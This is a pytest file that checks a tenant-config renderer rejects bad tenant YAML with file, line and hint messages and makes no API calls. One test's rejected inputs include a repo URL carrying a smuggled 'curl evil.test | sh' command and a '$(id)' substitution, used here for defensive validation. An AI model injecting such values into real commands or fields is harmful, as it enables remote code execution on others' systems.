"""Bad tenant files fail with file, line and a hint, exit 1, and make no API call."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from renderer.errors import ValidationFailed
from renderer.tenant import parse_tenant
from tests.conftest import Sim, run


def test_unknown_key_names_file_line_and_hint(sim: Sim, project: Path) -> None:
    path = project / "tenants" / "globex.yaml"
    path.write_text(path.read_text() + "regoin: ohio\n")
    before = sim.exchanges()
    for command in (["validate"], ["plan"], ["apply", "--auto-approve"]):
        result = run(*command)
        assert result.code == 1, command
        text = result.output
        assert "tenants/globex.yaml:8:1" in text
        assert "unknown key `regoin`" in text
        assert "did you mean `region`?" in text
        assert "Traceback" not in text
    assert sim.exchanges() == before
    assert not (project / "render.lock.json").exists()


def test_slug_not_a_dns_label(sim: Sim, project: Path) -> None:
    bad = project / "tenants" / "Big_Co.yaml"
    bad.write_text("name: Big Co\nslug: Big_Co\nblueprint: base_crm\n")
    before = sim.exchanges()
    result = run("plan")
    assert result.code == 1
    assert "tenants/Big_Co.yaml:2:7" in result.out + result.err
    assert "is not a DNS label" in result.output
    assert "hint: use lowercase letters, digits and '-'" in result.output
    assert sim.exchanges() == before


def test_slug_must_match_file_name(project: Path) -> None:
    path = project / "tenants" / "globex.yaml"
    path.write_text(path.read_text().replace("slug: globex", "slug: globex-inc"))
    result = run("validate")
    assert result.code == 1
    assert "tenants/globex.yaml:3:7" in result.out
    assert "does not match the file name 'globex'" in result.out
    assert "rename the file to globex-inc.yaml or set `slug: globex`" in result.out


@pytest.mark.parametrize(
    ("repo", "ok"),
    [
        ("https://github.com/acme/custom-plugins.git", True),
        ("git@github.com:acme/custom-plugins.git", True),
        ("https://x.test/a.git; curl evil.test | sh", False),
        ("https://x.test/$(id).git", False),
        ("https://user:token@github.com/acme/p.git", False),
        ("http://github.com/acme/p.git", False),
        ("https://github.com/acme/p.git\n", False),
    ],
)
def test_custom_plugin_repo_must_be_a_plain_git_url(repo: str, ok: bool) -> None:
    import json

    text = f"name: T\nslug: t\nblueprint: base_crm\ncustom_plugin_repo: {json.dumps(repo)}\n"
    if ok:
        tenant, _ = parse_tenant(text, "t.yaml", "t")
        assert tenant.custom_plugin_repo == repo
    else:
        with pytest.raises(ValidationFailed) as info:
            parse_tenant(text, "t.yaml", "t")
        finding = info.value.findings[0]
        assert (finding.line, finding.path) == (4, "custom_plugin_repo")


def test_env_value_must_be_a_string(project: Path) -> None:
    path = project / "tenants" / "globex.yaml"
    path.write_text(path.read_text() + "  CRM_VERSION: 3.10\n")
    result = run("validate")
    assert result.code == 1
    assert "tenants/globex.yaml:8:16" in result.out
    assert "env.CRM_VERSION" in result.out
    assert 'quote the value' in result.out


def test_duplicate_key_is_an_error(project: Path) -> None:
    path = project / "tenants" / "globex.yaml"
    path.write_text(path.read_text() + "name: Globex Again\n")
    result = run("validate")
    assert result.code == 1
    assert "tenants/globex.yaml:" in result.out and "duplicate key" in result.out


def test_all_problems_reported_at_once(project: Path) -> None:
    globex = "name: G\nslug: globex\nblueprint: base_crm\nfoo: 1\nregion: mars\n"
    (project / "tenants" / "globex.yaml").write_text(globex)
    (project / "tenants" / "initech.yaml").write_text("name: I\nslug: initech\n")
    result = run("validate")
    assert result.code == 1
    assert "unknown key `foo`" in result.out
    assert "tenants/globex.yaml:5:9" in result.out
    assert "required key `blueprint` is missing" in result.out
    assert "Invalid: 3 errors." in result.out


@pytest.mark.parametrize("name", ["globex.yml", "GLOBEX.YAML"])
def test_a_misnamed_tenant_file_is_an_error_not_a_teardown(sim: Sim, project: Path, name: str) -> None:
    assert run("apply", "--auto-approve").code == 0
    tenants = project / "tenants"
    (tenants / "globex.yaml").rename(tenants / name)
    before = sim.exchanges()
    for command in (["validate"], ["plan", "--detailed-exitcode"], ["apply", "--auto-approve", "--allow-destroy"]):
        result = run(*command)
        assert result.code == 1, command
        assert f"`{name}` is not read as a tenant file: tenant files are named `<slug>.yaml`" in result.output
        assert "rename it to `globex.yaml`" in result.output
        assert "Traceback" not in result.output
    assert sim.exchanges() == before
    assert "globex" in json.loads((project / "render.lock.json").read_text())["tenants"]


@pytest.mark.parametrize(("reference", "hint"), [
    ("{fromenv: X}", "did you mean `from_env`?"),
    ("{from_env: A, extra: 1}", "allowed keys: from_env"),
])
def test_an_unknown_key_in_a_secret_reference_hints_at_its_keys(reference: str, hint: str) -> None:
    text = f"name: Acme\nslug: acme\nblueprint: base_crm\nsecrets:\n  STRIPE_KEY: {reference}\n"
    with pytest.raises(ValidationFailed) as failed:
        parse_tenant(text, "tenants/acme.yaml", expected_slug="acme")
    [finding] = [f for f in failed.value.findings if f.rule == "unknown-key"]
    assert finding.path.startswith("secrets.STRIPE_KEY.")
    assert finding.hint == hint
